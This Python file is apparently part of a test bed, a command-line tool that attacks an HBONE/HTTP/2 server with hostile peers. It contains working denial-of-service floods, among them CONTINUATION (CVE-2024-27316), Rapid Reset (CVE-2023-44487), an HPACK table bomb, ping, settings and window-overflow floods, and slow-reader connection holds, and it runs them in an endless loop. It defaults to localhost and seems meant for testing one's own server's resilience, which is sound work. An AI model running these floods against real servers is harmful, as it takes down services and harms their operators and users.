"""Peers of hboned that mean ill, each with its own way to cost a server much: for as long as it is not stopped."""

from __future__ import annotations

import contextlib
import itertools
import selectors
import signal
import socket
from collections.abc import Callable, Iterator

import click

from krun_testbed.scripted import (
    CONTINUATION,
    DATA,
    END_HEADERS,
    HEADERS,
    PING,
    PREFACE,
    SETTINGS,
    field,
    frame,
    reset,
    setting,
    window,
)

BEGINNING = PREFACE + frame(SETTINGS)
PIECE = 64 * 1024  # bytes that are written at a time
HELD = 4  # connections of those that only hold
STREAMS = 25  # of each
Said = Iterator[bytes]  # what an attacker says, piece by piece


class Refused(Exception):
    """The server has ended the connection: that is its right, and the next one begins."""


def head(path: bytes) -> bytes:
    """The block of a request for a tunnel."""
    return b"\x83\x86" + field(b":path", path) + field(b":authority", b"b")


def opened(stream: int, path: bytes) -> bytes:
    return frame(HEADERS, stream=stream, payload=head(path), flags=END_HEADERS)


def _continuations(path: bytes) -> Said:
    """A head without end (CVE-2024-27316)."""
    yield BEGINNING + frame(HEADERS, stream=1, payload=head(path))
    yield from itertools.repeat(frame(CONTINUATION, stream=1, payload=field(b"a", b"b" * 100) * 100))


def _resets(path: bytes) -> Said:
    """Requests that are taken back at once (CVE-2023-44487)."""
    yield BEGINNING
    for first in itertools.count(1, 200):
        yield b"".join(opened(stream, path) + reset(stream, 8) for stream in range(first, first + 200, 2))


def _pings(path: bytes) -> Said:
    yield BEGINNING
    yield from itertools.repeat(frame(PING, payload=bytes(8)) * 1000)


def _settings(path: bytes) -> Said:
    yield BEGINNING
    yield from itertools.repeat(setting(4, 65535) * 1000)


def _single_bytes(path: bytes) -> Said:
    """Payload byte by byte: ten times its size, and a write of a target's for each."""
    yield BEGINNING + opened(1, path)
    yield from itertools.repeat(frame(DATA, stream=1, payload=b"x") * 500)


def _bombs(path: bytes) -> Said:
    """A table's entry that is named again and again: a few bytes that become megabytes."""
    name = b"\x40\x01a\x7f\xa1\x1e" + b"b" * 4000
    for stream in itertools.count(1, 2):
        block = head(path) + (name if stream == 1 else b"") + b"\xbe" * 12000
        yield (BEGINNING if stream == 1 else b"") + frame(HEADERS, stream=stream, payload=block, flags=END_HEADERS)


def _overflows(path: bytes) -> Said:
    """Windows beyond what they may be: each ends its stream, and then the connection."""
    yield BEGINNING
    for stream in range(1, 20, 2):
        yield opened(stream, path) + window(stream, 2**31 - 1)
    yield window(0, 2**31 - 1) * 2
    yield from itertools.repeat(b"")


def _zero_windows(path: bytes) -> Said:
    """Answers that can never be sent."""
    yield PREFACE + setting(4, 0)
    for stream in range(1, 2 * STREAMS, 2):
        yield opened(stream, path)


def _slow_readers(path: bytes) -> Said:
    """All windows open, and nothing is read."""
    yield PREFACE + setting(4, 2**31 - 1) + window(0, 2**31 - 1 - 65535)
    for stream in range(1, 2 * STREAMS, 2):
        yield opened(stream, path)


FLOODS: dict[str, Callable[[bytes], Said]] = {
    "continuations": _continuations,
    "resets": _resets,
    "pings": _pings,
    "settings": _settings,
    "single-bytes": _single_bytes,
    "bombs": _bombs,
    "overflows": _overflows,
}
HOLDS: dict[str, Callable[[bytes], Said]] = {"zero-windows": _zero_windows, "slow-readers": _slow_readers}
KINDS = (*FLOODS, *HOLDS)


def flood(address: tuple[str, int], said: Callable[[bytes], Said], path: bytes) -> None:
    """Say it until the server has had enough; reads what is answered, and drops it."""
    with socket.create_connection(address, timeout=30) as connected, selectors.DefaultSelector() as selector:
        connected.setblocking(False)
        selector.register(connected, selectors.EVENT_READ | selectors.EVENT_WRITE)
        rest = b""
        pieces = said(path)
        while True:
            for _, mask in selector.select():
                if mask & selectors.EVENT_READ and not connected.recv(2**20):
                    raise Refused
                if mask & selectors.EVENT_WRITE:
                    rest = rest or next(pieces)
                    rest = rest[connected.send(rest[:PIECE]) :]


def hold(address: tuple[str, int], said: Callable[[bytes], Said], path: bytes) -> socket.socket:
    """Say all of it, and keep the connection."""
    connected = socket.create_connection(address, timeout=30)
    connected.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
    connected.sendall(b"".join(said(path)))
    return connected


def attack(kind: str, *, address: tuple[str, int], path: bytes) -> None:
    """Without end. Says so once when it has begun."""
    if kind in HOLDS:
        held = [hold(address, HOLDS[kind], path) for _ in range(HELD)]
        click.echo("hostile: attacking")
        while held:
            signal.pause()
    for number in itertools.count():
        if not number:
            click.echo("hostile: attacking")
        with contextlib.suppress(Refused, ConnectionError):
            flood(address, FLOODS[kind], path)


@click.command()
@click.argument("kind", type=click.Choice(KINDS))
@click.option("--host", default="127.0.0.1", show_default=True, help="Whom.")
@click.option("--port", default=15009, show_default=True, help="On which port.")
@click.option("--path", default="/_hbone/15003", show_default=True, help="What is asked for.")
def main(kind: str, host: str, port: int, path: str) -> None:
    """Attack a server of one's own until this is ended, in one of these ways."""
    attack(kind, address=(host, port), path=path.encode())


if __name__ == "__main__":
    main()
